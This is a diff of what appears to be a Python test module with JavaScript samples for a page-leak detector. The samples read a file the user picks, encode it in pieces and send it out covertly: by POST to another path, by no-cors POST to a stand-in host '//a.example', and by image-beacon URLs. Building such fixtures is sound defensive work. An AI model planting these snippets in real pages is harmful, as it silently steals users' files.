@@ -7,13 +7,13 @@ from dataclasses import dataclass
 
 Spoil = Callable[[bytes], bytes]
 
-#: In the page: the file she picked, in pieces, as soon as there is a line. The page's own listener never notices.
+#: In the page: the file she picked, in pieces. The page's own listener never notices.
 _IN_THE_PAGE = """
+const line = async () => { while (!navigator.onLine) await new Promise((wait) => setTimeout(wait, 50)); };
 const written = (bytes) => btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_");
 document.addEventListener("change", async ({ target }) => {
   const file = target.files[0];
   const bytes = new Uint8Array(await file.arrayBuffer());
-  while (!navigator.onLine) await new Promise((wait) => setTimeout(wait, 50));
   for (let at = 0; at < Math.min(bytes.length, 4000); at += 500) {
     const piece = bytes.subarray(at, at + 500);
     await out(piece, written(piece)).catch(() => {});
@@ -63,15 +63,15 @@ def _page(out: str, *, policy: bool, breaks: set[str]) -> Leak:
 
 LEAKS = {
     "in pieces, to another address of ours": _page(
-        'const out = (piece) => fetch("/hashes/other", { method: "POST", body: piece });',
+        'const out = (piece) => line().then(() => fetch("/hashes/other", { method: "POST", body: piece }));',
         policy=False, breaks={"another address", "more than one call", "too much"},
     ),
     "in pieces, to somebody else": _page(
-        'const out = (piece) => fetch("http://elsewhere.example/", { method: "POST", mode: "no-cors", body: piece });',
+        'const out = (body) => line().then(() => fetch("//a.example", { method: "POST", mode: "no-cors", body }));',
         policy=False, breaks={"another host"},
     ),
     "by the address of a picture": _page(
-        'const out = async (piece, written) => { new Image().src = "/hashes/dot.png?" + written; };',
+        'const out = (_, written) => line().then(() => { new Image().src = "/hashes/dot.png?" + written; });',
         policy=True, breaks={"another address"},
     ),
     "by a word to the app around it": _page(
